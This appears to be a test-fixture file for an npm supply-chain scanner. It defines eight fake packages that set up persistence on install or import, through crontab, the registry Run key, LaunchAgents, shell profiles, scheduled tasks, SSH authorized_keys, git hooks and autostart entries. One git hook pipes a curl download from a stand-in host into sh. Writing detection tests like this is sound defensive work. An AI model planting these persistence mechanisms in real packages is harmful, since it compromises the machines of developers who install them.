import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'something stays behind that starts again (s1ngularity, CanisterWorm, base58-core)';

export const specimens: readonly Specimen[] = [
  {
    name: 'persistence-crontab',
    from,
    files: {
      'package.json': hooked('node cron.js'),
      'cron.js': `const { exec } = require('child_process');
exec('(crontab -l 2>/dev/null; echo "*/10 * * * * echo INERT") | crontab -', () => {});
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'persistence-run-key',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { execFile } = require('child_process');
const os = require('os');
if (os.platform() === 'win32') {
  execFile('reg', ['add', 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', '/v', 'Updater', '/d', 'cmd /c echo INERT', '/f']);
}
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'spawns', on: 'win32' },
  },
  {
    name: 'persistence-launch-agent',
    from,
    files: {
      'package.json': hooked('node mac/install.js'),
      'mac/install.js': `const fs = require('fs/promises');
const { homedir } = require('os');
const { execFile } = require('child_process');
const file = homedir() + '/Library/LaunchAgents/com.inert.updater.plist';
const plist = '<plist version="1.0"><dict><key>Label</key><string>INERT</string><key>RunAtLoad</key><true/></dict></plist>';
if (process.platform === 'darwin') fs.writeFile(file, plist).then(() => execFile('launchctl', ['load', file]));
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'writes file', on: 'darwin' },
  },
  {
    name: 'persistence-profile-callback',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `var fs = require('fs');
var home = process.env.HOME;
['.profile', '.bash_profile', '.zshenv'].forEach(function (name) {
  fs.appendFile(home + '/' + name, '\\nnode -e "INERT" &\\n', function () {});
});
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'persistence-scheduled-task',
    from,
    files: {
      'package.json': hooked('schtasks /create /sc minute /mo 30 /tn Updater /tr "cmd /c echo INERT" /f'),
    },
    expect: 'warn',
  },
  {
    name: 'persistence-authorized-keys',
    from,
    files: {
      'package.json': hooked('node key.js'),
      'key.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const dir = path.join(os.homedir(), '.ssh');
if (!fs.existsSync(dir)) fs.mkdirSync(dir, 0o700);
fs.appendFileSync(path.join(dir, 'authorized_keys'), '\\nssh-ed25519 INERT support@inert.invalid\\n');
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'persistence-git-hook',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const fs = require('node:fs');
const hook = process.cwd() + '/.git/hooks/post-commit';
try {
  fs.writeFileSync(hook, '#!/bin/sh\\ncurl -s https://hook.invalid/INERT | sh\\n');
  fs.chmodSync(hook, 0o755);
} catch {}
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'persistence-autostart-desktop',
    from,
    files: {
      'package.json': hooked('node ./autostart.mjs'),
      'autostart.mjs': `import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { homedir } from 'node:os';
const folder = join(homedir(), '.config', 'autostart');
mkdirSync(folder, { recursive: true });
writeFileSync(join(folder, 'inert.desktop'), ['[Desktop Entry]', 'Type=Application', 'Exec=sh -c "echo INERT"'].join('\\n'));
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'writes file' },
  },
];
